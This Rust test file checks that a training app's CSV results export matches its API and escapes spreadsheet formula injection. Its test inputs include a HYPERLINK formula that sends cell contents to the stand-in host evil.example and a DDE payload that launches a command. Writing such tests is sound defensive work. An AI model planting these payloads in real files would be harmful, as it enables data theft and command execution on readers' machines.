//! Every file for a spreadsheet, read back: it says what the API says, and no cell of it is run (E7).

use shared::training::{Figures, GoalStep, NewGoal, NewSelfAssessment, ProgrammeResults};
use shared::{Lang, LocalText, format};
use std::collections::BTreeMap;
use tests::operations::document;
use tests::raw::{header, send};
use tests::training::new_programme;
use tests::{Person, TestApp, figure};

/// Begin as formulas do, or break the file where they are not quoted.
const TEXTS: &[&str] = &[
    "=SUMMA(A1)",
    "=1+1",
    "==1",
    "=HYPERLINK(\"https://evil.example/?\"&A1;\"Avaa\")",
    "+358 40 123 4567",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-1",
    "@SUM(1;2)",
    "=",
    "a;b",
    "\"=1+1\"",
    "a\"b\"c",
    "';=1",
    "Åsikter, \u{1f600} ja €",
    "tavallinen tavoite",
];

/// What a spreadsheet takes for the beginning of a formula.
const FORMULA: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

struct Row(BTreeMap<String, String>);

impl Row {
    fn cell(&self, column: &str) -> &str {
        &self.0[column]
    }

    /// As a spreadsheet of the reader's language reads it.
    fn number(&self, column: &str, lang: Lang) -> f64 {
        let text = self.cell(column);
        assert!(!(lang == Lang::En && text.contains(',')), "{column}: {text} in English");
        text.replace(',', ".").parse().unwrap_or_else(|error| panic!("{column} is no number: {text}: {error}"))
    }
}

/// The rows of a file, by the names of their columns.
async fn rows(app: &TestApp, person: &Person, path: &str, lang: Lang) -> Vec<Row> {
    let response = send(app.get_as(person, path).header("accept-language", lang.as_str())).await;
    assert_eq!(header(&response, "content-type"), "text/csv; charset=utf-8");
    assert!(header(&response, "content-disposition").starts_with("attachment; filename=\""), "{path}");
    let bytes = response.bytes().await.expect("a body");
    let text = bytes.strip_prefix(b"\xef\xbb\xbf").expect("a BOM, or spreadsheets take it for Latin-1");
    assert!(!text.starts_with(b"\xef\xbb\xbf"), "one is enough");
    let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(text);
    let columns: Vec<String> = reader.headers().expect("a first line in UTF-8").iter().map(str::to_owned).collect();
    let row = |record: csv::StringRecord| {
        assert_eq!(record.len(), columns.len(), "{record:?}");
        for cell in &record {
            assert!(!cell.starts_with(FORMULA), "would be run: {cell}");
        }
        Row(columns.iter().cloned().zip(record.iter().map(str::to_owned)).collect())
    };
    reader.records().map(|record| row(record.expect("a line in UTF-8, as long as the first"))).collect()
}

/// What becomes of a text in a cell.
fn in_cell(text: &str) -> String {
    if text.starts_with(FORMULA) { format!("'{text}") } else { text.to_owned() }
}

fn compare(row: &Row, figures: &Figures, invited: i64, lang: Lang) -> usize {
    let hidden = lang.text("csv-hidden");
    let number = |key: &str| row.number(&lang.text(key), lang);
    let is_hidden = |key: &str| row.cell(&lang.text(key)) == hidden;
    assert_eq!(number("csv-invited"), invited as f64);
    let rate = figures.n.map(|n| format::decimal(n as f64 * 100.0 / invited as f64, 0, lang)).unwrap_or_else(|| hidden.clone());
    assert_eq!(row.cell(&lang.text("csv-response-rate")), rate);
    match figures.n {
        Some(n) => assert_eq!(number("csv-n"), n as f64),
        None => assert!(is_hidden("csv-n")),
    }
    match figures.mean {
        Some(mean) => assert!((number("csv-mean") - mean).abs() <= 0.005, "{mean} became {}", number("csv-mean")),
        None => assert!(is_hidden("csv-mean")),
    }
    for step in 1..=4 {
        let column = lang.text_with("csv-step", &[("step", &step.to_string())]);
        match &figures.distribution {
            Some(counts) => assert_eq!(row.number(&column, lang), counts[step - 1] as f64, "step {step}"),
            None => assert_eq!(row.cell(&column), hidden, "step {step}"),
        }
    }
    8
}

/// A programme with all the texts for goals, and two editions, of which the second has too few answers.
async fn published(app: &TestApp, coordinator: &Person) -> shared::ProgrammeId {
    let text = |text: &&str| LocalText::all(*text, format!("{text} sv"), format!("{text} en"));
    let mut new = new_programme(0);
    new.goals = TEXTS.iter().map(|own| NewGoal { id: None, text: text(own) }).collect();
    let programme = coordinator.create_programme(&new).await.expect("a programme");
    for (number, people) in [(1, 11), (2, 3)] {
        let edition = app.open(app.edition(programme.id, number));
        for who in 0..people {
            let step = |(place, goal): (usize, &shared::training::Goal)| GoalStep { goal_id: goal.id, step: ((who + place) % 4) as u8 + 1 };
            let steps = programme.goals.iter().enumerate().map(step).collect();
            let answer = NewSelfAssessment { steps, greeting: String::new(), lang: Lang::Fi };
            app.participant(edition.id).save_self_assessment(edition.id, 0, &answer).await.expect("saved");
        }
        app.close(edition.id);
    }
    programme.id
}

#[tokio::test]
async fn the_results_file_says_what_the_api_says() {
    let app = TestApp::start().await;
    let coordinator = app.coordinator();
    let programme = published(&app, &coordinator).await;
    let results: ProgrammeResults = coordinator.get_programme_results(programme).await.expect("results");
    let path = format!("/api/v1/programmes/{programme}/results/export");
    let mut cells = 0;
    for lang in Lang::ALL.iter().copied() {
        let rows = rows(&app, &coordinator, &path, lang).await;
        let find = |edition: &str, goal: &str| {
            let (edition_column, goal_column, goal) = (lang.text("csv-edition"), lang.text("csv-goal"), in_cell(goal));
            let fits = |row: &&Row| row.cell(&edition_column) == edition && row.cell(&goal_column) == goal;
            let found: Vec<&Row> = rows.iter().filter(fits).collect();
            assert_eq!(found.len(), 1, "{lang}: {edition}, {goal}");
            found[0]
        };
        for edition in &results.editions {
            let number = edition.number.to_string();
            let invited = edition.enrolled_count;
            cells += compare(find(&number, &lang.text("csv-all-goals")), &edition.overall, invited, lang);
            for goal in &edition.goals {
                cells += compare(find(&number, goal.text.in_lang(lang)), &goal.figures, invited, lang);
            }
        }
        let all = lang.text("csv-all-editions");
        let shown: i64 =
            results.editions.iter().filter(|edition| edition.overall.mean.is_some()).map(|edition| edition.enrolled_count).sum();
        cells += compare(find(&all, &lang.text("csv-all-goals")), &results.overall, shown, lang);
        for goal in &results.goals {
            cells += compare(find(&all, goal.text.in_lang(lang)), &goal.figures, shown, lang);
        }
        assert_eq!(rows.len(), 3 * (TEXTS.len() + 1), "{lang}: a line for each of two editions and all, and each goal and all");
    }
    figure!("E7", "{cells} cells read back equal, {} texts that begin as formulas do or break quoting, 3 languages", TEXTS.len());
}

#[test]
fn every_file_for_a_spreadsheet_is_read_back_above() {
    let described = document();
    let paths = described["paths"].as_object().expect("paths").values().flat_map(|item| item.as_object().expect("methods").values());
    let is_file = |operation: &&serde_json::Value| operation["responses"]["200"]["content"].get("text/csv").is_some();
    let found: Vec<&str> = paths.filter(is_file).map(|operation| operation["operationId"].as_str().expect("an id")).collect();
    assert_eq!(found, ["export_programme_results"], "read the new one back too");
}
